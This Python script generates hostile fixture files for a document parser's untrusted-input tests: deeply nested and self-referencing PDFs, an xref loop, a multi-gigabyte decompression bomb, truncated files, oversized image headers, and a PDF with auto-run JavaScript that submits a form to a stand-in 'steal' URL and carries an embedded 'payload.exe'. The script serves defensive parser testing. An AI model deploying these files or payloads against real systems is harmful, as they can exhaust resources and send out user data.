#!/usr/bin/env python3
"""Writes the hostile files the untrusted-file tests feed to Signet (committed; rerun
only to change them). Each imitates what a crafted or broken customer file does to a
parser: recursion, loops, decompression bombs, absurd sizes, active content.

Standard library only. Output: crates/signet-core/tests/fixtures/hostile/.
"""
import pathlib
import struct
import zlib

OUT = pathlib.Path(__file__).resolve().parent.parent / "crates/signet-core/tests/fixtures/hostile"

TEXT = "Contrato de teste: o emitente declara que leu e aceita todas as clausulas."


def pdf(objects, trailer_extra=b"", root=1, xref=True):
    """A PDF from numbered object bodies (bytes), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num, body in objects:
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    size = max(offsets) + 1
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for n in range(1, size):
            out += b"%010d 00000 n \n" % offsets.get(n, 0)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer_extra, start)
    return bytes(out)


def stream(content, extra=b""):
    return b"<< /Length %d %s>>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def page_text(text):
    return b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def simple_pages(catalog_extra=b"", pages_extra=b"", count=1):
    """Catalog 1, Pages 2, one Page 3 with content 4 and font 5."""
    return [
        (1, b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count %d " % count + pages_extra + b">>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"),
        (4, stream(page_text(TEXT))),
        (5, FONT),
    ]


def nested_arrays(depth=10_000):
    objs = simple_pages(catalog_extra=b"/X " + b"[" * depth + b"]" * depth + b" ")
    return pdf(objs)


def nested_dicts(depth=10_000):
    objs = simple_pages(catalog_extra=b"/X " + b"<< /A " * depth + b"1" + b" >>" * depth + b" ")
    return pdf(objs)


def self_reference():
    # The page's resources and its content length each point at themselves, and the
    # page tree lists itself among its own kids.
    return pdf([
        (1, b"<< /Type /Catalog /Pages 2 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources 6 0 R /Contents 4 0 R >>"),
        (4, b"<< /Length 4 0 R >>\nstream\n" + page_text(TEXT) + b"\nendstream"),
        (5, FONT),
        (6, b"6 0 R"),
    ])


def xref_loop():
    # A second xref section whose /Prev points back at itself, forever.
    body = pdf(simple_pages(), xref=True)
    start = int(body.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    table = body[start:body.index(b"trailer", start)]
    at = len(body)
    loop = table + b"trailer\n<< /Size 6 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (at, at)
    return body + loop


def inflate_bomb(gigabytes=4):
    # Deflated three times: two kilobytes on disk, gigabytes of page content once inflated.
    inner = zlib.compressobj(9)
    chunk = b"0 0 m " * (1 << 20)  # 6 MiB of harmless drawing operators
    once = bytearray()
    for _ in range(int(gigabytes * 1024 / 6)):
        once += inner.compress(chunk)
    once += inner.flush()
    thrice = zlib.compress(zlib.compress(bytes(once), 9), 9)
    objs = simple_pages()
    objs[3] = (4, stream(thrice, b"/Filter [/FlateDecode /FlateDecode /FlateDecode] "))
    return pdf(objs)


def million_pages():
    return pdf(simple_pages(count=1_000_000))


def truncated():
    whole = pdf(simple_pages())
    return whole[: len(whole) // 2]


def javascript_and_attachment():
    js = b"app.alert('hello'); this.submitForm('https://example.com/steal');"
    attached = b"MZ\x90\x00 this would be a program"
    objs = simple_pages(catalog_extra=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(run) 6 0 R] >> /EmbeddedFiles << /Names [(payload.exe) 7 0 R] >> >> ")
    objs += [
        (6, b"<< /S /JavaScript /JS (" + js + b") >>"),
        (7, b"<< /Type /Filespec /F (payload.exe) /EF << /F 8 0 R >> >>"),
        (8, stream(attached, b"/Type /EmbeddedFile ")),
    ]
    return pdf(objs)


def png_claiming(width, height):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    # A few rows' worth of data; the header claims the rest.
    idat = zlib.compress(b"\x00" + b"\x80" * (width * 3) * 1)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_claiming(width, height):
    soi = b"\xff\xd8"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes([1] * 64)
    sof0 = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    # Huffman tables with a single code each, then a scan of a few bytes.
    dht_dc = b"\xff\xc4" + struct.pack(">H", 20) + b"\x00" + bytes([1] + [0] * 15) + b"\x00"
    dht_ac = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10" + bytes([1] + [0] * 15) + b"\x00"
    sos = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00"
    return soi + app0 + dqt + sof0 + dht_dc + dht_ac + sos + b"\x00" * 64 + b"\xff\xd9"


FILES = {
    "nested-arrays.pdf": nested_arrays,
    "nested-dictionaries.pdf": nested_dicts,
    "self-reference.pdf": self_reference,
    "xref-loop.pdf": xref_loop,
    "inflate-bomb.pdf": inflate_bomb,
    "million-pages.pdf": million_pages,
    "truncated.pdf": truncated,
    "javascript-and-attachment.pdf": javascript_and_attachment,
    "huge-50000x50000.png": lambda: png_claiming(50_000, 50_000),
    "huge-50000x50000.jpg": lambda: jpeg_claiming(50_000, 50_000),
}

if __name__ == "__main__":
    OUT.mkdir(parents=True, exist_ok=True)
    for name, make in FILES.items():
        data = make()
        (OUT / name).write_bytes(data)
        print(f"{name}: {len(data):,} bytes")
